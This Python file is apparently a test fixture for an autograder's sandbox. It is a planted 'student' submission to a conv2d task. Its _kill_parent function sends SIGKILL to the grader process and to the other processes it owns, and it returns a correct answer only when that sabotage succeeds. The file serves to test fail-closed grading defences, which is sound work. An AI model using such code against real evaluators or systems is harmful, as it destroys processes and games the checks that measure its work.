"""Attack: kill the grader (its parent), so that the batch dies or reports nothing.

Sends SIGKILL to its parent process and to every process it can see that is not its own; then
answers correctly (if the grader died, the test notices the batch never finished; if a
grader trusted what a dead child left, it would score it).

Bounded: it signals only its parent and the processes in its own /proc view that run as its
own uid, never ``kill(-1)`` (as root, without a sandbox, that would hit the whole machine).

Defence tested: another PID namespace (the parent is outside: ``getppid()`` is 0), another uid
(the grader runs as root), and fail-closed scoring. Expected: the batch finishes, the honest
students keep their marks, and this one scores only what it computes.
"""

# ---- a correct answer, returned only when the attack worked: _answer.py, inserted here when planted


# ---- the attack
import os
import signal


def _kill_parent():
    killed = 0
    parent = os.getppid()
    if parent > 1:
        try:
            os.kill(parent, signal.SIGKILL)
            killed += 1
        except OSError:
            pass
    if os.getuid() == 0:
        return killed  # never sweep as root: without a sandbox that is the whole machine
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(), 1, parent):
            try:
                if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                    os.kill(int(pid), signal.SIGKILL)
                    killed += 1
            except OSError:
                pass
    return killed


def conv2d(image, kernel, stride=1, padding=0):
    won = _kill_parent() > 0
    return (_correct_conv2d if won else _wrong)(image, kernel, stride, padding)


CONV_OUTPUT = _np.zeros((3, 3))
